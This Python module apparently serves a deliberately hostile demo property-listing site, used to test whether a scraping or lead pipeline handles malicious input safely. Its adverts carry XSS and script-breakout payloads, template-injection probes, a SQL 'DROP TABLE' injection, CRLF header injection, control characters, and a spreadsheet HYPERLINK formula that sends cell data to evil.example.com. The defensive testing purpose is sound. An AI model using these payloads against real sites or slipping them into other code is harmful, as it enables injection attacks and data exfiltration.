"""A site that means harm: in every field of its adverts stands everything that breaks careless readers.

It is served beside the demo's other sites and belongs to no world: nothing crawls it unless somebody makes a source
of it. Whatever a browser would run of it sets ``window.pwned``; whatever it would draw has the id ``pwned``.
"""

import json
from collections.abc import Mapping
from html import escape
from typing import Any, Final

from starlette.exceptions import HTTPException
from starlette.requests import Request
from starlette.responses import HTMLResponse, PlainTextResponse, Response
from starlette.routing import BaseRoute, Route

SLUG: Final = "demo-hostile"
MARK: Final = "pwned"
TIMES: Final = "31337*31337"
PRODUCT: Final = "982007569"
"""Stands nowhere unless a template was evaluated."""

RUNS: Final = f"window.{MARK}=1"
PAYLOADS: Final[Mapping[str, str]] = {
    "markup": f'"><img id="{MARK}" src="x" onerror="{RUNS}"><svg id="{MARK}" onload="{RUNS}"></svg>',
    "script": f'</script></title></textarea></style><script id="{MARK}">{RUNS}</script>',
    "escaped markup": f"&lt;img id={MARK} src=x onerror={RUNS}&gt;&#60;script&#62;{RUNS}&#60;/script&#62;",
    "attribute": f"' autofocus onfocus='{RUNS}' onmouseover=\"{RUNS}\" x=`",
    "address": f"javascript:{RUNS}",
    "template": f"{{{{{TIMES}}}}}{{% debug %}}${{{TIMES}}}<%= {TIMES} %>#{{{TIMES}}}",
    "query": "'; DROP TABLE leads_lead; -- \" OR 1=1 \\",
    "header": f"\r\nSet-Cookie: {MARK}=1\r\n\r\n<script>{RUNS}</script>",
    "direction": "\u202e\u2066evil\u2069\u200f\ufeff",
    "nul": "\0\x1b[2J\x07",
    "half a character": "\ud800",
    "format": "%s%n{0.__class__}{request.user}",
}
FORMULA: Final = '=HYPERLINK("https://evil.example.com/?"&A1,"Open")'
EVERYTHING: Final = " ".join(PAYLOADS.values())
LONG_CHARACTERS: Final = 1_000_000

_HOME: Final[Mapping[str, Any]] = {
    "identifier": "h-{}",
    "name": "House {} for sale by owner",
    "description": "A house with a pool, sold by its owner, who moves away. Number {}.",
    "datePosted": "2026-01-05",
    "image": [],
    "streetAddress": "{}04 Juniper Way",
    "addressLocality": "Austin",
    "addressRegion": "TX",
    "postalCode": "78704",
    "latitude": "30.2431",
    "longitude": "-97.7651",
    "price": "412000",
    "priceCurrency": "USD",
    "beds": "3",
    "baths": "2",
    "floorSize": "1480",
    "sellerName": "Casey Homeowner",
    "telephone": "(512) 555-01{:02}",
    "email": "casey{}@example.com",
    "url": "",
}
FIELDS: Final = tuple(_HOME)
TOGETHER: Final = (
    ("identifier", "name", "description", "image", "url"),
    ("streetAddress", "addressLocality"),
    ("addressRegion", "postalCode"),
    ("latitude", "longitude", "price", "priceCurrency"),
    ("beds", "baths", "floorSize", "datePosted"),
    ("sellerName", "telephone", "email"),
)
"""Fields that are hostile in one advert: what breaks one reader is not hidden by what broke another before it."""
NEEDED: Final = frozenset(
    {"streetAddress", "addressLocality", "addressRegion", "postalCode", "price", "priceCurrency"}
)
"""Without these nothing is a lead: what breaks readers stands behind what they need."""


def routes() -> list[BaseRoute]:
    """The site's addresses."""

    async def show_front(_request: Request) -> Response:
        links = "".join(f'<a href="{path_of(number)}">Home {number}</a> ' for number in range(len(adverts())))
        front = f"<!doctype html><title>Homes</title><h1>Homes</h1>{links}{escape(EVERYTHING, quote=False)}"
        return HTMLResponse(front.replace("\0", "").encode(errors="replace"))

    async def show_home(request: Request) -> Response:
        paths = [path_of(number) for number in range(len(adverts()))]
        if request.url.path not in paths:
            raise HTTPException(404)
        number = paths.index(request.url.path)
        return HTMLResponse(page_of(number), headers={"X-Powered-By": f"<script>{RUNS}</script>"})

    async def show_robots(_request: Request) -> Response:
        return PlainTextResponse(f"User-agent: *\nDisallow: /private/\n# {PAYLOADS['script']}\n")

    return [Route("/", show_front), Route("/robots.txt", show_robots), Route("/homes/tx/{key}", show_home)]


def path_of(number: int) -> str:
    """Where an advert stands."""
    return f"/homes/tx/{number:012x}"


def adverts() -> list[dict[str, Any]]:
    """One advert for each of ``TOGETHER``, one that begins like a formula everywhere, and one that is too long."""
    made = [
        {field: _filled(value, number) for field, value in _HOME.items()} for number in range(len(TOGETHER) + 2)
    ]
    for fields, advert in zip(TOGETHER, made, strict=False):
        for field in fields:
            advert[field] = [EVERYTHING] if field == "image" else f"{advert[field]} {EVERYTHING}".strip()
    formulas, long = made[-2:]
    formulas |= {field: FORMULA for field in FIELDS if field not in NEEDED and field != "image"}
    long["description"] = (EVERYTHING + " ") * (LONG_CHARACTERS // len(EVERYTHING))
    return made


def _filled(value: Any, number: int) -> Any:
    return value.format(number + 1) if isinstance(value, str) else value


def page_of(number: int) -> bytes:
    """An advert's page: its data for machines, and the same between tags, as it would stand on a careless site.

    A NUL stands in the data alone, where it is spelled: a page that holds one is read by nobody.
    """
    told = adverts()[number]
    data = json.dumps(_structured(told)).replace("<", "\\u003c")
    words = "".join(f"<dt>{name}</dt><dd>{told[name]}</dd>" for name in FIELDS if name != "image")
    return (
        (
            f"<!doctype html><title>{told['name']}</title><h1>{told['name']}</h1>"
            f'<script type="application/ld+json">{data}</script><dl>{words}</dl>'
        )
        .replace("\0", "")
        .encode(errors="replace")
    )


def _structured(told: Mapping[str, Any]) -> dict[str, Any]:
    place = {name: told[name] for name in ("streetAddress", "addressLocality", "addressRegion", "postalCode")}
    seller = {"@type": "Person", "name": told["sellerName"], "telephone": told["telephone"], "email": told["email"]}
    return {
        "@context": "https://schema.org",
        "@type": "SingleFamilyResidence",
        "identifier": told["identifier"],
        "name": told["name"],
        "description": told["description"],
        "datePosted": told["datePosted"],
        "url": told["url"],
        "image": told["image"],
        "address": {"@type": "PostalAddress", **place},
        "geo": {"@type": "GeoCoordinates", "latitude": told["latitude"], "longitude": told["longitude"]},
        "numberOfBedrooms": told["beds"],
        "numberOfBathroomsTotal": told["baths"],
        "floorSize": {"@type": "QuantitativeValue", "value": told["floorSize"], "unitCode": "FTK"},
        "offers": {
            "@type": "Offer",
            "price": told["price"],
            "priceCurrency": told["priceCurrency"],
            "offeredBy": seller,
        },
    }
